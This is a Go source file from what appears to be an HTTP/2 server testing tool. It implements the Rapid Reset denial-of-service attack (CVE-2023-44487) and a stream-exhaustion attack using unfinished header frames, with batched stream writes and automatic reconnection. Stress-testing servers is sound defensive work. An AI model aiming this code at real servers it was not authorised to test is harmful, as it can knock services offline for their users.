package attack

import (
	"io"
	"net"
	"time"

	"github.com/echobench/echobench/internal/rawhttp2"
	"github.com/echobench/echobench/internal/testkit"
)

// rapidReset begins requests over HTTP/2 and resets their streams at once
// (CVE-2023-44487). When the server ends a connection, it continues on another one.
func rapidReset(a *assault) error {
	return a.streams(func(b []byte, stream uint32) []byte {
		b = append(b, a.wire.http2(0).encode(stream)...)
		return rawhttp2.AppendFrame(b, rawhttp2.FrameReset, 0, stream, []byte{0, 0, 0, 8}) // CANCEL
	})
}

// bareHeaders begins requests over HTTP/2 and never continues them.
func bareHeaders(a *assault) error {
	headers := rawhttp2.AppendPost(nil, a.wire.http2(64).fields...)
	return a.streams(func(b []byte, stream uint32) []byte {
		return rawhttp2.AppendFrame(b, rawhttp2.FrameHeaders, rawhttp2.FlagEndHeaders, stream, headers)
	})
}

// streams sends what more appends for each of n streams, and reads what the server
// sends.
func (a *assault) streams(more func(b []byte, stream uint32) []byte) error {
	const together = 100 // streams in one write
	var conn net.Conn
	next := uint32(1)
	for sent := 0; sent < a.n; sent += together {
		if conn == nil {
			var err error
			if conn, err = a.dial(); err != nil {
				return err
			}
			reading := conn
			a.running.Go(func() { io.Copy(io.Discard, reading) })
			conn.Write([]byte(a.wire.hello))
			next = 1
		}
		var b []byte
		for range together {
			b = more(b, next)
			next += 2
		}
		conn.SetWriteDeadline(time.Now().Add(testkit.Hang))
		if _, err := conn.Write(b); err != nil {
			a.close(conn)
			conn = nil
		}
	}
	return nil
}

func needsHTTP2(tg *target) string {
	if tg.wire.http2 == nil {
		return "not HTTP/2"
	}
	return ""
}
